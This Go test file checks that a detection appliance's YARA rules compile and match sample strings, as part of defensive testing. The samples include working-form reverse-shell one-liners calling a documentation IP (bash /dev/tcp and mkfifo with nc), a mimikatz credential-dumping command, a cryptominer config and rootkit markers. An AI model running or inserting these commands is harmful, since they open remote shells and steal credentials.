package rules

import (
	"testing"

	"github.com/domainm/domainm/detectors/yara"
)

// TestShippedYARARulesCompile compiles the shipped rules with the appliance's libyara and
// fails on any error or warning (a warning, such as a slow atom, costs every scan).
func TestShippedYARARulesCompile(t *testing.T) {
	r, err := yara.Compile("yara")
	if err != nil {
		t.Fatal(err)
	}
	if r.Count() < 9 {
		t.Errorf("only %d rules", r.Count())
	}
	for _, w := range r.Warnings() {
		t.Errorf("warning: %v", w)
	}
	// Shipped rules are written for memory: none depends on the scan window.
	for _, w := range r.WindowRules() {
		t.Errorf("%v", w)
	}
}

// TestShippedRulesMatch runs each rule over a sample it must match and one it must not.
func TestShippedRulesMatch(t *testing.T) {
	r, err := yara.Compile("yara")
	if err != nil {
		t.Fatal(err)
	}
	s, err := r.NewScanner(0)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	cases := []struct{ rule, sample string }{
		{"eicar_test_file", `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`},
		{"linux_reverse_shell_bash", "sh -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"},
		{"linux_reverse_shell_tools", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"},
		{"linux_rootkit_diamorphine", "xx diamorphine_secret yy"},
		{"linux_rootkit_reptile", "/reptile/reptile_cmd ... reptile_shell"},
		{"linux_userland_rootkit_preload", "/etc/ld.so.preload dlsym readdir64 process_to_filter"},
		{"cryptominer_xmrig", `{"url": "stratum+tcp://pool.example:3333", "donate-level": 1, "algo": "randomx"} xmrig`},
		{"mimikatz_strings", "mimikatz # sekurlsa::logonpasswords"},
		{"domainm_demo_marker", "DOMAINM-DEMO-IMPLANT-0123abcd"},
	}
	mem, err := r.NewMemoryScanner(0, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer mem.Close()
	for _, c := range cases {
		ms, err := s.Scan([]byte("padding " + c.sample + " padding"))
		if err != nil {
			t.Fatal(err)
		}
		if len(ms) != 1 || ms[0].Rule != c.rule {
			t.Errorf("%s: matched %v", c.rule, ms)
		}
		// The same bytes as a memory window, as the memory scan driver presents them.
		ms, err = mem.Scan([]byte("padding "+c.sample+" padding"), 0x12340000)
		if err != nil {
			t.Fatal(err)
		}
		if len(ms) != 1 || ms[0].Rule != c.rule || ms[0].Strings[0].Offset >= uint64(len(c.sample)+16) {
			t.Errorf("%s in memory: matched %v", c.rule, ms)
		}
	}
	// Ordinary text matches nothing.
	ms, _ := s.Scan([]byte("The quick brown fox; bash -i; /dev/tcp is a bash feature; stratum"))
	if len(ms) != 0 {
		t.Errorf("benign text matched %v", ms)
	}
}
